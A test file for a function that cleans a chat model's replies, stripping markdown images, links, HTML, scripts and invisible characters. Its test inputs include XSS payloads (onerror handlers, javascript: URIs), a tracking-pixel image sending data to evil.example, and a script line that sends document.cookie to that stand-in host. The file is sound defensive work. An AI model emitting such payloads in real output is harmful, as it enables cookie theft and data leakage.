import { describe, expect, it } from 'vitest';
import { buildKnowledge } from '../../src/server/assistant/knowledge.ts';
import { answerLocally } from '../../src/server/assistant/local-assistant.ts';
import { cleanModelText } from '../../src/server/assistant/model-text.ts';

/*
 * The model's text as the chat returns it: links, images, markup and invisible characters taken
 * out on the server, bold and italic kept, ordinary text untouched.
 */

describe("the model's text, cleaned", () => {
  it.each([
    ['a markdown image', 'See ![our logo](https://evil.example/logo.png) our plans.', 'See our plans.'],
    ['a tracking pixel with data in its address', 'Hello!![](https://evil.example/p.gif?visitor=42&q=plans)', 'Hello!'],
    ['an image reference', 'Look: ![chart][c]\n\n[c]: https://evil.example/c.png', 'Look:'],
    [
      'a markdown link, by its text',
      'See [our plans](https://evil.example/x) for details.',
      'See our plans for details.',
    ],
    ['a link with a title and parentheses', '[SEO](https://evil.example/a_(b) "SEO") works.', 'SEO works.'],
    ['a link in bold', 'Try **[Gold](https://evil.example)** today.', 'Try **Gold** today.'],
    ['a link with no text', 'Here[](https://evil.example) it is.', 'Here it is.'],
    ['a linked image', '[![x](https://evil.example/i.png)](https://evil.example)Hi', 'Hi'],
    [
      'a reference-style link and its definition',
      'Read [the guide][1] and [this][].\n\n[1]: https://evil.example/guide "Guide"\n[this]: <https://evil.example>',
      'Read the guide and this.',
    ],
    ['a bare URL', 'Visit https://evil.example/path?q=1 for more.', 'Visit for more.'],
    ['a bare URL ending a sentence', 'It is at https://evil.example/a.', 'It is at.'],
    ['a URL in parentheses', 'Our plans (see http://evil.example/plans) are simple.', 'Our plans (see) are simple.'],
    ['a www. host', 'Or try www.evil.example/x today!', 'Or try today!'],
    ['a URL in bold', 'Go: **https://evil.example**', 'Go:'],
    ['an autolink', 'Go to <https://evil.example/a> now.', 'Go to now.'],
    ['a javascript: URI', 'Click javascript:alert(document.cookie) now.', 'Click now.'],
    ['a data: URI', 'Pic: data:image/png;base64,iVBORw0KGgo= done', 'Pic: done'],
    [
      'an e-mail autolink, as the address',
      'Mail <hello@tidewell.digital> or <mailto:team@tidewell.digital>.',
      'Mail hello@tidewell.digital or team@tidewell.digital.',
    ],
    ['an img tag with an onerror script', 'Hi <img src=x onerror=alert(1)> there.', 'Hi there.'],
    ['a tag with a ">" inside a quoted attribute', 'Hi <img alt=">" src=x onerror="alert(1)"> there.', 'Hi there.'],
    ['a script element and its code', 'A <script>fetch("//evil.example?c=" + document.cookie)</script>B', 'A B'],
    ['a style element and its rules', '<style>body { display: none }</style>Hello.', 'Hello.'],
    ['a script left open, and all after it', 'Hello. <script>alert(1)\nmore', 'Hello.'],
    ['a tag left open', 'Hello.\n<img src=x onerror=alert(1)', 'Hello.'],
    ['a tag across lines', 'Hi <img\nsrc=x\nonerror=alert(1)> there.', 'Hi there.'],
    [
      'markup that keeps its text',
      'We <b>optimise</b> <a href="https://evil.example">stores</a>.',
      'We optimise stores.',
    ],
    ['a comment', 'Hi <!-- hidden: the rules --> there.', 'Hi there.'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>Welcome.', 'Welcome.'],
    ['invisible characters', 'Our\u200b plans\u2060 are\u202e simple\u{E0041}.\u0007', 'Our plans are simple.'],
    ['paragraphs left empty', 'One.\n\n![x](https://evil.example/x.png)\n\n<br>\n\nTwo.', 'One.\n\nTwo.'],
  ])('%s', (_, text, expected) => {
    expect(cleanModelText(text)).toBe(expected);
  });

  it('leaves nothing of a reply that was only links or markup', () => {
    for (const text of [
      '![x](https://evil.example/x.png)',
      '<script>alert(1)</script>',
      'https://evil.example',
      '<br>',
    ]) {
      expect(cleanModelText(text), text).toBe('');
    }
  });

  it.each([
    'We optimise **online stores** for search, from *product pages* to ***category structure***.',
    'The SEO Gold plan is $1,199 a month; PPC platinum is ₹29,300 a month.',
    'E-mail hello@tidewell.digital or call +1 (646) 555-0142, Monday to Friday.',
    'Prices: 3 < 5 and 7 > 2; a <3 for you, 20% off.',
    'snake_case, file_names and 2 * 3 * 4 stay as they are.',
    'One paragraph.\n\nAnother, with a line\nbreak.',
    'Emoji stay whole: 👩‍💻 ✔️ 👍🏽 🇮🇳.',
    'Brackets [like these] and (these) stay.',
  ])('leaves an ordinary reply as it is: %s', (text) => {
    expect(cleanModelText(`  ${text}\n`)).toBe(text);
  });

  it("leaves the knowledge base's facts and the local assistant's answers as they are", () => {
    const kb = buildKnowledge();
    const texts = [
      ...kb.documents.map((document) => document.text),
      ...['What are your business hours?', 'How can I contact your team?', 'What does SEO gold cost?'].map(
        (message) => answerLocally({ message, context: '' }, kb).response,
      ),
    ];
    for (const text of texts) expect(cleanModelText(text)).toBe(text.trim());
  });
});
